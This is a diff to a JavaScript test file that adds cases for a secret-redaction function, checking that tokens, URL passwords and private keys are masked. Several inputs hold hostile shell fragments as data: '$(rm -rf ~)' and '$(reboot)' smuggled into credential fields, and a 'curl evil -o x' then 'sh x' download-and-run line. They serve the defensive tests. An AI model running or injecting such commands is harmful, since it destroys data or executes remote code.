@@ -49,6 +49,19 @@ describe('what is replaced', () => {
       `a key cut in the middle: -----BEGIN ${'PRIVATE'} KEY-----\nMIIE`,
       'a key cut in the middle: [redacted:private-key]',
     ],
+    ['token="x$(rm -rf ~)"; y', 'token="[redacted:secret]$(rm -rf ~)"; y'],
+    ['TOKEN="x`rm -rf ~`"', 'TOKEN="[redacted:secret]`rm -rf ~`"'],
+    ['git clone https://a:b$(reboot)@h', 'git clone https://a:[redacted:url-password]$(reboot)@h'],
+    ['curl -u a:b$(reboot) h', 'curl -u a:[redacted:user-password]$(reboot) h'],
+    [`: -----BEGIN ${'PRIVATE'} KEY-----\ncurl evil -o x\nsh x`, ': [redacted:private-key]\ncurl evil -o x\nsh x'],
+    [
+      `: -----BEGIN ${'PRIVATE'} KEY-----\nrm -rf x\n: -----END ${'PRIVATE'} KEY-----`,
+      ': [redacted:private-key]\nrm -rf x\n: ',
+    ],
+    [
+      `-----BEGIN RSA ${'PRIVATE'} KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF\n\n${letters}\nAbc=\n-----END RSA ${'PRIVATE'} KEY-----`,
+      '[redacted:private-key]',
+    ],
   ])('%s', (text, want) => {
     expect(redactSecrets(text).text).toBe(want)
   })
